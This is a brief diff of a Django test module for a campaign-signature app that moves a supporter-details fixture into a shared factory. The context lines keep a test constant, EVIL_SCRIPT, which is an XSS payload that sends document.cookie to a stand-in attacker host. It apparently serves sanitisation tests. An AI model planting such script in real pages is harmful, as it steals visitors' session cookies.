@@ -16,6 +16,7 @@ from campaigns.models import CampaignPage
 from cms.models import OrganisationSettings
 from signatures.models import Signature
 from signatures.services import signing
+from tests.factories import SUPPORTER as DETAILS
 from tests.factories import CampaignPageFactory, TargetFactory, translate
 from tests.moderation.conftest import make_user
 
@@ -24,7 +25,6 @@ pytestmark = [pytest.mark.postgres, pytest.mark.django_db]
 SOURCE_SCRIPT = '<script src="https://stats.example.org/approved.js"></script>'
 EVIL_SCRIPT = "<script>fetch('https://collect.attacker.example/?'+document.cookie)</script>"
 LETTER = "Dear Minister,\n\nMy name is {first_name} {last_name}.\n\nPlease release them."
-DETAILS = {"first_name": "Ana", "last_name": "Okonjo", "email": "ana@example.org"}
 
 
 @pytest.fixture
